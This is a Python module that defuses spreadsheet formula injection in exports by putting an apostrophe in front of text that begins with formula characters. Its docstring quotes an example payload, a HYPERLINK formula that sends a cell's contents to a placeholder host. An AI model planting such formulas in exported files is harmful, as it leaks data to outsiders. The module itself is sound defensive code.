"""Spreadsheet cells that cannot run: text a spreadsheet would read as a formula is defused.

Exports and petitions go to staff and to authorities who open them in Excel or LibreOffice.
A stored value such as ``=HYPERLINK("http://x.example/?"&A1)`` (an imported provider name,
an appeal title) would otherwise run there.  Following OWASP's advice, text that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which
spreadsheets show as text; numbers, dates and other values pass unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe(value: Any) -> Any:
    """The value, or for text that would start a formula the same text behind an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe(value) for value in values]
